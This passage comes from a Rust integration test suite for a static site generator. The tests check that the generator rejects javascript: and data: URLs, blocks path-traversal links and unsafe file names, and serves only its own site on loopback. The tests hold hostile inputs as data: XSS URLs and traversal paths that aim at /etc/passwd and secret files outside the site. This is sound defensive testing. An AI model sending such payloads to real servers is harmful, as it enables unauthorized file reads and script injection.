            "audiences: [women]\nsources:\n  - { title: Code, url: 'javascript:alert(1)' }\n  - { title: Law, url: 'data:text/html,<script>' }",
        ),
    );
    c.write(
        "content/partners.yaml",
        &c.read("content/partners.yaml")
            .replace("https://example.org/council", "javascript:alert(1)"),
    );
    c.write(
        "campaign.yaml",
        &c.read("campaign.yaml")
            .replace("https://example.org/hostile/", "javascript:alert(1)//"),
    );
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    let sources: Vec<_> = with_code(&report, "invalid-front-matter");
    assert_eq!(sources.len(), 2, "{}", listing(&report));
    assert!(
        sources.iter().all(|d| d["line"] == 6),
        "{}",
        listing(&report)
    );
    let d = diag(&report, "invalid-partners", "content/partners.yaml");
    assert_eq!(d["line"], 1);
    let d = diag(&report, "invalid-config", "campaign.yaml");
    assert_eq!(d["line"], 4);
}

#[test]
fn isolation_marks_never_reach_attributes() {
    let c = base();
    // Messages whose values insert other messages and variables get U+2068/U+2069 around
    // them; in aria-label attributes they must not appear.
    c.write(
        "locales/fr/main.ftl",
        &(c.read("locales/fr/main.ftl")
            + "language-switcher = Langues de { campaign-title }\nsite-navigation = Navigation : { campaign-title }\nbreadcrumb = Fil d’Ariane de { campaign-title }\n"),
    );
    let out = run(&c, &["build", "--only", "site", "--allow-incomplete"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let html = fs::read_to_string(c.site().join("fr/work/rights/index.html")).unwrap();
    assert!(
        html.contains("aria-label=\"Langues de Campagne d’entrées hostiles\""),
        "{html}"
    );
    for f in html_files(&c.site()) {
        let html = fs::read_to_string(c.site().join(&f)).unwrap();
        let doc = scraper::Html::parse_document(&html);
        for el in doc
            .root_element()
            .descendants()
            .filter_map(scraper::ElementRef::wrap)
        {
            for (name, value) in el.value().attrs() {
                assert!(
                    !value.contains(['\u{2068}', '\u{2069}']),
                    "{}: {name}={value:?}",
                    f.display()
                );
            }
        }
    }
}

#[test]
fn links_and_file_names_cannot_escape_their_folder() {
    let c = base();
    c.write(
        "content/en/work/escape.md",
        &page(
            "Escape",
            "[a](@/../../../etc/passwd) [b](@//etc/passwd) [c](@/C:/Windows/win.ini) [d](@/work/%00.md) \
             [e](@/assets/../../campaign.yaml) [f](@/work/../../campaign.yaml) [g](@/..\\..\\campaign.yaml)\n\n\
             ![h](@/assets/../../../etc/passwd) ![i](@/assets/%2e%2e/campaign.yaml)",
        ),
    );
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    let broken: Vec<_> = with_code(&report, "broken-link")
        .into_iter()
        .filter(|d| d["file"] == "content/en/work/escape.md")
        .collect();
    assert_eq!(broken.len(), 9, "{}", listing(&report));

    // File names that would leave their folder, or change, on another system.
    let c = base();
    c.write("content/en/work/back\\slash.md", &page("A", "x"));
    c.write("content/en/work/c:drive.md", &page("B", "x"));
    c.write("content/en/work/line\nbreak.md", &page("C", "x"));
    c.write("content/en/work/trailing. /page.md", &page("D", "x"));
    c.write("content/assets/bad:name.svg", "<svg/>");
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    let paths = with_code(&report, "unsafe-path");
    assert_eq!(paths.len(), 5, "{}", listing(&report));
    let out = run(&c, &["build"]);
    assert_eq!(out.status.code(), Some(1));
}

// ---------------------------------------------------------------------------------------
// `herald serve`: loopback only, nothing outside the site.

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// A raw HTTP/1.0 GET, so that no client library tidies the path first.
fn raw_get(port: u16, path: &str) -> (u16, String) {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    write!(s, "GET {path} HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n").unwrap();
    let mut buf = Vec::new();
    let _ = s.read_to_end(&mut buf);
    let text = String::from_utf8_lossy(&buf).into_owned();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (status, text)
}

struct Killed(std::process::Child);
impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn serve_listens_on_loopback_and_serves_only_the_site() {
    let c = base();
    c.write("secret.txt", "SECRET-OUTSIDE-THE-SITE");
    let port = free_port();
    let log = c.root().join("serve.log");
    let child = Command::new(env!("CARGO_BIN_EXE_herald"))
        .args(["serve", "--port", &port.to_string(), "--root"])
        .arg(c.root())
        .env("HERALD_TODAY", "2026-12-01")
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::null())
        .stderr(fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let _guard = Killed(child);
    let start = Instant::now();
    while !fs::read_to_string(&log)
        .unwrap_or_default()
        .contains("Serving")
    {
        assert!(
            start.elapsed() < Duration::from_secs(120),
            "{}",
            fs::read_to_string(&log).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let said = fs::read_to_string(&log).unwrap();
    assert!(
        said.contains(&format!("http://127.0.0.1:{port}/")),
        "{said}"
    );
    assert!(!said.contains("warning: listening on"), "{said}");
    // The kernel's own table of listening sockets: bound to 127.0.0.1 (0100007F), not to
    // 0.0.0.0 or another address, and not on IPv6 either.
    let hex = format!(":{port:04X} ");
    let listening: Vec<String> = ["/proc/net/tcp", "/proc/net/tcp6"]
        .iter()
        .flat_map(|f| {
            fs::read_to_string(f)
                .unwrap_or_default()
                .lines()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .filter(|l| {
            l.split_whitespace()
                .nth(1)
                .is_some_and(|a| a.ends_with(hex.trim_end()))
                && l.split_whitespace().nth(3) == Some("0A")
        })
        .collect();
    assert!(!listening.is_empty(), "no listening socket on {port}");
    for l in &listening {
        let local = l.split_whitespace().nth(1).unwrap();
        assert!(
            local.starts_with("0100007F:"),
            "herald serve listens on {local}"
        );
    }

    let (status, body) = raw_get(port, "/en/work/rights/index.html");
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("Your rights at work"));
    for path in [
        "/../secret.txt",
        "/../../secret.txt",
        "/%2e%2e/secret.txt",
        "/%2e%2e%2fsecret.txt",
        "/en/..%2f..%2f..%2fsecret.txt",
        "/..\\..\\secret.txt",
        "//etc/passwd",
        "/../../../../../../etc/passwd",
        "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/a%00.html",
        "/../campaign.yaml",
        "/%2e%2e/campaign.yaml",
        "/../output/site/../../campaign.yaml",
    ] {
        let (status, body) = raw_get(port, path);
        assert!(status == 404 || status == 400, "{path}: {status}");
        assert!(
            !body.contains("SECRET")
                && !body.contains("root:x:0")
                && !body.contains("source_locale"),
            "{path} leaked:\n{body}"
        );
    }
}
